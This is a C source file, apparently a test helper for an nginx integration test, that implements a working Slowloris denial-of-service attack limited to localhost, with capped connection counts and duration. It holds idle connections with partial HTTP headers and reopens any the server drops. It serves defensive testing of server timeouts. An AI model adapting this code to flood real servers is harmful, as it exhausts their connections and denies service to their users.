/* slowloris.c: the attack of tests/integration/t0061-edge-slowloris.sh.
 *
 *   slowloris PORT SOURCE_ADDR CONNECTIONS SECONDS
 *
 * Opens up to CONNECTIONS connections from SOURCE_ADDR (an address inside 127.0.0.0/8,
 * which Linux routes to lo) to 127.0.0.1:PORT, sends each a request line and one header
 * but never the blank line that ends the headers, and holds them idle for SECONDS.
 * A connection the server drops is opened again at once.  Bounded in count (<= 20000 at
 * a time) and time (<= 120 s); every socket is closed at the end.  Prints "opened N" once
 * the connections are up and, at the end, "closed_by_server N" (connections nginx dropped,
 * e.g. after client_header_timeout, each then opened again). */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_CONNECTIONS 20000
#define MAX_SECONDS 120

static double now_s(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int open_one(const struct sockaddr_in *src, const struct sockaddr_in *dst)
{
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (fd < 0)
        return -1;
    int one = 1;
    /* The port is picked at connect(): bind(port 0) would search the whole range each time. */
    setsockopt(fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &one, sizeof one);
    if (bind(fd, (const struct sockaddr *)src, sizeof *src) != 0 ||
        (connect(fd, (const struct sockaddr *)dst, sizeof *dst) != 0 && errno != EINPROGRESS)) {
        close(fd);
        return -1;
    }
    return fd;
}

int main(int argc, char **argv)
{
    if (argc != 5) {
        fprintf(stderr, "usage: %s PORT SOURCE_ADDR CONNECTIONS SECONDS\n", argv[0]);
        return 2;
    }
    int port = atoi(argv[1]), n = atoi(argv[3]), secs = atoi(argv[4]);
    struct sockaddr_in src = { .sin_family = AF_INET }, dst = { .sin_family = AF_INET };
    if (port <= 0 || port > 65535 || n <= 0 || n > MAX_CONNECTIONS || secs <= 0 || secs > MAX_SECONDS ||
        inet_pton(AF_INET, argv[2], &src.sin_addr) != 1 ||
        (ntohl(src.sin_addr.s_addr) >> 24) != 127) {
        fprintf(stderr, "slowloris: bad arguments (source must be in 127.0.0.0/8, <= %d connections, "
                        "<= %d s)\n", MAX_CONNECTIONS, MAX_SECONDS);
        return 2;
    }
    dst.sin_port = htons((unsigned short)port);
    inet_pton(AF_INET, "127.0.0.1", &dst.sin_addr);

    struct rlimit rl;
    if (getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < (rlim_t)n + 64) {
        rl.rlim_cur = rl.rlim_max < (rlim_t)n + 64 ? rl.rlim_max : (rlim_t)n + 64;
        setrlimit(RLIMIT_NOFILE, &rl);
    }
    struct pollfd *fds = calloc((size_t)n, sizeof *fds);
    char *sent = calloc((size_t)n, 1);
    if (fds == NULL || sent == NULL)
        return 1;
    static const char partial[] = "GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: 1\r\n";
    double start = now_s(), end = start + secs;
    int opened = 0;
    for (int i = 0; i < n; i++) {
        fds[i].fd = open_one(&src, &dst);
        fds[i].events = POLLOUT;
        if (fds[i].fd >= 0)
            opened++;
    }
    /* Send the partial headers as each connection completes (bounded by a third of the time). */
    int pending = opened;
    while (pending > 0 && now_s() < start + secs / 3.0) {
        if (poll(fds, (nfds_t)n, 200) < 0 && errno != EINTR)
            break;
        for (int i = 0; i < n; i++) {
            if (fds[i].fd < 0 || sent[i] || fds[i].revents == 0)
                continue;
            if (fds[i].revents & (POLLERR | POLLHUP) ||
                send(fds[i].fd, partial, sizeof partial - 1, MSG_NOSIGNAL) < 0) {
                close(fds[i].fd);
                fds[i].fd = -1;
                opened--;
            } else {
                fds[i].events = POLLIN;  /* from now on, only notice the server closing it */
            }
            sent[i] = 1;
            pending--;
        }
    }
    int established = 0;
    for (int i = 0; i < n; i++) {
        if (fds[i].fd >= 0 && !sent[i]) {  /* never connected in time */
            close(fds[i].fd);
            fds[i].fd = -1;
        }
        established += fds[i].fd >= 0;
    }
    printf("opened %d\n", established);
    fflush(stdout);

    /* Hold them; a connection the server drops is opened again at once, as a real attack
     * would, so the server never gets its connections back while the attack lasts. */
    int closed_by_server = 0;
    while (now_s() < end) {
        int left = (int)((end - now_s()) * 1000);
        if (poll(fds, (nfds_t)n, left < 500 ? left : 500) < 0 && errno != EINTR)
            break;
        for (int i = 0; i < n; i++) {
            if (fds[i].fd < 0 || fds[i].revents == 0)
                continue;
            if (!sent[i]) {  /* a reopened connection is up (or failed) */
                if (fds[i].revents & (POLLERR | POLLHUP) ||
                    send(fds[i].fd, partial, sizeof partial - 1, MSG_NOSIGNAL) < 0) {
                    close(fds[i].fd);
                    fds[i].fd = -1;
                } else {
                    fds[i].events = POLLIN;
                    sent[i] = 1;
                }
                continue;
            }
            char buf[512];
            if (recv(fds[i].fd, buf, sizeof buf, MSG_DONTWAIT) <= 0) {
                close(fds[i].fd);
                closed_by_server++;
                fds[i].fd = open_one(&src, &dst);
                fds[i].events = POLLOUT;
                sent[i] = 0;
            }
        }
    }
    for (int i = 0; i < n; i++)
        if (fds[i].fd >= 0)
            close(fds[i].fd);
    printf("closed_by_server %d\n", closed_by_server);
    free(fds);
    free(sent);
    return 0;
}
